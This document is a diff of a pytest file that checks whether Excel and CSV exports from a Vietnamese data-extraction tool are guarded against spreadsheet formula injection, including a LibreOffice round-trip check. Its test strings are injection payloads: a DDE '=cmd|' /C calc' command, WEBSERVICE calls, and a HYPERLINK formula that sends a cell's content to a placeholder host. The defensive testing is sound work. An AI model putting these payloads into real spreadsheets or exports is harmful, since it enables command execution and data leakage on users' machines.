@@ -6,12 +6,12 @@ import csv
 import shutil
 import subprocess
 import xml.etree.ElementTree as ET
-from collections.abc import Iterator
 from pathlib import Path
 
 import openpyxl
 import pandas as pd
 import pytest
+from openpyxl.utils.escape import unescape
 
 from ntm_extract.edges.store import atomic
 from ntm_extract.outputs.frames import load, write_workbook
@@ -19,45 +19,11 @@ from ntm_extract.outputs.schema import BY_NAME, TABLES, Column, Row, Table
 from ntm_extract.outputs.tables import as_lines
 
 STRINGS = (
-    *(
-        "=1+1",
-        "=A1",
-        "+1+1",
-        "-1+1",
-        "@SUM(A1:A9)",
-        "\t=1+1",
-        "\r=1+1",
-        "\n=1+1",
-        " =1+1",
-        "'=1+1",
-        "''=1+1",
-        "'+84",
-        "'",
-    ),
-    *(
-        "=cmd|' /C calc'!A0",
-        '=HYPERLINK("http://a.example/?"&A1;"xã")',
-        '=WEBSERVICE("http://a.example")',
-        "=DDE(1;2;3)",
-    ),
-    *(
-        "-",
-        "- Giao thông",
-        "+84 912",
-        "-5",
-        "=",
-        "@",
-        "1/2",
-        "2-3",
-        "00123",
-        "1e5",
-        "1.234.567",
-        "12,5 %",
-        "TRUE",
-        "#N/A",
-    ),
-    *("NA", "nan", "null", 'hai "xã"', 'a,"b"\n;c', "dòng\r\nmới", "\u202e=1+1", "\ufeff=1+1", "＝1+1", "xã\u00a0Lùng"),
-    *("{=1+1}", "[Sổ.xlsx]Trang!A1", "=" * 300),
+    *("=1+1", "=A1", "+1+1", "-1+1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "'=1+1", "''=1+1", "'+84"),
+    *("=cmd|' /C calc'!A0", '=HYPERLINK("http://a.example/?"&A1;"xã")', '=WEBSERVICE("http://a.example")', "=DDE(1;2)"),
+    *("-", "- Giao thông", "+84 912", "-5", "=", "@", "'", "1/2", "2-3", "00123", "1e5", "1.234.567", "12,5 %", "TRUE"),
+    *("NA", "nan", "null", "#N/A", 'hai "xã"', 'a,"b"\n;c', "dòng\r\nmới", "\u202e=1+1", "\ufeff=1+1", "＝1+1"),
+    *("xã\u00a0Lùng", "{=1+1}", "[Sổ.xlsx]Trang!A1", "_x003D_1+1", "=" * 300),
 )
 OWN = ("op",)  # holds a sign of comparison, and nothing else
 
@@ -106,40 +72,32 @@ def test_workbook_reads_back_and_holds_no_formula(out: Path) -> None:
         for column in table.columns:
             found = sheets[table.name][column.name].tolist()
             if column in texts(table):
-                assert found == [plain(text) for text in STRINGS], (table.name, column.name)
+                assert [unescape(text) for text in found] == list(STRINGS), (table.name, column.name)
             elif column.type != "string":
                 assert all(isinstance(value, int | float) and value < 0 for value in found)
 
 
-def plain(text: str) -> str:
-    """As XML gives it back: an end of line is one letter."""
-    return text.replace("\r\n", "\n").replace("\r", "\n")
-
-
 @pytest.fixture(scope="module")
-def office(tmp_path_factory: pytest.TempPathFactory) -> Path:
+def opened(out: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """Workbook and tables as LibreOffice takes them when it opens them, and one cell without a guard."""
     if shutil.which("soffice") is None:
         pytest.skip("needs LibreOffice (apt-get install libreoffice-calc)")
-    return tmp_path_factory.mktemp("office")
+    folder = tmp_path_factory.mktemp("office")
+    (folder / "bare.csv").write_text("a\n=1+1\n", encoding="utf-8")
+    paths = [out / "ntm.xlsx", *(out / f"{table.name}.csv" for table in TABLES), folder / "bare.csv"]
+    home = f"-env:UserInstallation=file://{folder}/home"
+    command = ["soffice", home, "--headless", "--convert-to", "fods", "--outdir", str(folder), *map(str, paths)]
+    subprocess.run(command, check=True, capture_output=True, timeout=300)
+    return folder
 
 
-def opened(path: Path, office: Path) -> Iterator[ET.Element]:
-    """The cells of a file as LibreOffice takes them when it opens it."""
-    home = f"-env:UserInstallation=file://{office}/home"
-    command = ["soffice", home, "--headless", "--convert-to", "fods", "--outdir", str(office), str(path)]
-    subprocess.run(command, check=True, capture_output=True, timeout=120)
-    root = ET.parse(office / f"{path.stem}.fods").getroot()
-    return root.iter("{urn:oasis:names:tc:opendocument:xmlns:table:1.0}table-cell")
+def formulas(path: Path) -> list[dict[str, str]]:
+    cells = list(ET.parse(path).getroot().iter("{urn:oasis:names:tc:opendocument:xmlns:table:1.0}table-cell"))
+    assert cells
+    return [cell.attrib for cell in cells if any(key.endswith("}formula") for key in cell.attrib)]
 
 
-@pytest.mark.parametrize("name", ["ntm.xlsx", "budgets.csv", "documents.csv", "table_cells.csv"])
-def test_no_cell_starts_a_formula_in_libreoffice(out: Path, office: Path, name: str) -> None:
-    cells = list(opened(out / name, office))
-    assert len(cells) > len(STRINGS)
-    assert not [cell.attrib for cell in cells if any(key.endswith("}formula") for key in cell.attrib)]
-
-
-def test_libreoffice_would_start_one_without_the_guard(tmp_path: Path, office: Path) -> None:
-    (tmp_path / "bare.csv").write_text("a\n=1+1\n", encoding="utf-8")
-    cells = list(opened(tmp_path / "bare.csv", office))
-    assert [cell for cell in cells if any(key.endswith("}formula") for key in cell.attrib)]
+def test_no_cell_starts_a_formula_in_libreoffice(opened: Path) -> None:
+    for name in ("ntm", *(table.name for table in TABLES)):
+        assert formulas(opened / f"{name}.fods") == [], name
+    assert formulas(opened / "bare.fods")  # it would start one
